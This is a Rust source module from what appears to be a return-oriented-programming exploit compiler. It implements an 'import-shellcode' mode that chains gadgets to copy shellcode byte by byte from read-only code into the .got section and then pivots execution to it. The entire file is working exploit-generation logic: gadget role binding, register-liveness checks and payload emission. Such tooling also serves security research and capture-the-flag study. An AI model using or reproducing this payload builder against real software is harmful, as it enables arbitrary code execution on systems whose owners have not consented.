//! Import-shellcode mode: copy a shellcode image byte by byte from
//! read-only code into `.got`, then jump there.
//!
//! Per byte the chain runs
//!
//! ```text
//! pop %PTR          <- address of the byte in code
//! mov (%PTR),%TMP
//! mov %TMP,%VAL     (skipped when TMP == VAL)
//! pop %PTR          <- .got + i
//! mov %VAL,(%PTR)
//! ```
//!
//! Every store writes a whole word, so byte `i + 1` overwrites the junk
//! that byte `i` dragged along.

use crate::att;
use crate::combo::{Bound, Role, RoleBinding};
use crate::emit::{Emitter, Operand, Payload, Section, Sections};
use crate::error::{Error, Result};
use crate::layout::check_live;
use crate::octet::OctetSequence;
use crate::types::Instruction;

/// Writable room behind the pivot target.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Capacity {
    /// Size of `.got`.
    pub got: u64,
    /// Size of `.got.plt`, directly following it.
    pub gotplt: u64,
}

impl Capacity {
    pub fn total(&self) -> u64 {
        self.got.saturating_add(self.gotplt)
    }
}

/// Everything the import mode needs besides the gadgets.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImportShellcode {
    pub octets: OctetSequence,
    pub capacity: Capacity,
}

impl ImportShellcode {
    pub fn new(octets: OctetSequence, capacity: Capacity) -> Self {
        Self { octets, capacity }
    }

    /// Shellcode size in bytes.
    pub fn size(&self) -> usize {
        self.octets.len()
    }

    /// Capacity first, then byte availability.
    pub fn check(&self) -> Result<()> {
        let required = self.size() as u64;
        if self.capacity.total() < required {
            return Err(Error::CapacityInsufficient {
                got: self.capacity.got,
                gotplt: self.capacity.gotplt,
                required,
            });
        }
        if let Some((offset, octet)) = self.octets.first_missing() {
            return Err(Error::ByteUnavailable {
                offset,
                value: octet.value,
            });
        }
        Ok(())
    }
}

/// Gadgets of the byte copy loop.
#[derive(Debug, Clone)]
pub struct ImportWriter {
    pub pop_pointer: Bound,
    pub load: Instruction,
    /// `None` when the load already lands in the stored register.
    pub normalize: Option<Instruction>,
    pub store: Instruction,
}

impl ImportWriter {
    /// Rejects bindings whose filler pops would overwrite the pointer or
    /// the byte in flight.
    pub fn from_binding(binding: &RoleBinding) -> Result<Self> {
        let pop_pointer = binding.require(Role::PopPointer)?;
        let load = binding.require(Role::Load)?;
        let store = binding.require(Role::Store)?;
        let normalize = if binding.is_degenerate(Role::Normalize) {
            None
        } else {
            Some(binding.require(Role::Normalize)?)
        };

        let conflict = |bound: &Bound| {
            Error::RoleConflict(format!("cannot read the registers of `{}`", bound.component))
        };
        let ptr = att::pop_register(&pop_pointer.component).ok_or_else(|| conflict(pop_pointer))?;
        let (_, _, tmp) = att::split_operands(&load.component).ok_or_else(|| conflict(load))?;
        let (_, val, _) = att::split_operands(&store.component).ok_or_else(|| conflict(store))?;

        // the second pointer pop runs while the byte sits in the value register
        check_live(pop_pointer, &[val], &[val, ptr])?;
        check_live(load, &[ptr], &[tmp])?;
        if let Some(normalize) = normalize {
            check_live(normalize, &[tmp], &[val])?;
        }
        check_live(store, &[ptr, val], &[])?;

        Ok(Self {
            pop_pointer: pop_pointer.clone(),
            load: load.insn.clone(),
            normalize: normalize.map(|n| n.insn.clone()),
            store: store.insn.clone(),
        })
    }

    /// Gadget invocations per shellcode byte.
    pub fn steps_per_byte(&self) -> usize {
        if self.normalize.is_some() {
            5
        } else {
            4
        }
    }
}

/// Build the import chain.
///
/// Preconditions are checked before anything is emitted; on failure no
/// payload exists.
pub fn synthesize(binding: &RoleBinding, shellcode: &ImportShellcode, sections: Sections) -> Result<Payload> {
    shellcode.check()?;
    let writer = ImportWriter::from_binding(binding)?;
    let mut em = Emitter::new(binding.arch().word_size(), sections)?;

    for (i, octet) in shellcode.octets.iter().enumerate() {
        let source = octet.addr.ok_or(Error::ByteUnavailable {
            offset: i,
            value: octet.value,
        })?;
        let comment = format!("0x{:02x}", octet.value);
        em.gadget(&writer.pop_pointer, Operand::Literal(source, &comment))?;
        em.solo(&writer.load)?;
        if let Some(normalize) = &writer.normalize {
            em.solo(normalize)?;
        }
        em.gadget(&writer.pop_pointer, Operand::Section(Section::Got, i as u64))?;
        em.solo(&writer.store)?;
    }
    em.pivot(Section::Got)?;

    let payload = em.finish();
    log::info!(
        "import chain: {} byte(s), {} step(s), {} byte payload",
        shellcode.size(),
        payload.step_count(),
        payload.size()
    );
    Ok(payload)
}
